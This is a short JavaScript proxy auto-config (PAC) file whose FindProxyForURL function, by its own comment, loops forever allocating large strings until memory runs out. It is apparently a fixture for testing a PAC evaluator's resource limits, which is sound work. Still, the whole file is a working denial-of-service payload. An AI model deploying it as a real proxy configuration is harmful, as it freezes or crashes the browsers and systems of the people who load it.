// SPDX-License-Identifier: MIT
// SPDX-FileCopyrightText: 2026 The esol authors
// Eats memory until something stops it.
function FindProxyForURL(url, host) {
    var hoard = [];
    for (;;)
        hoard.push(new Array(65536).join("x") + hoard.length);
}
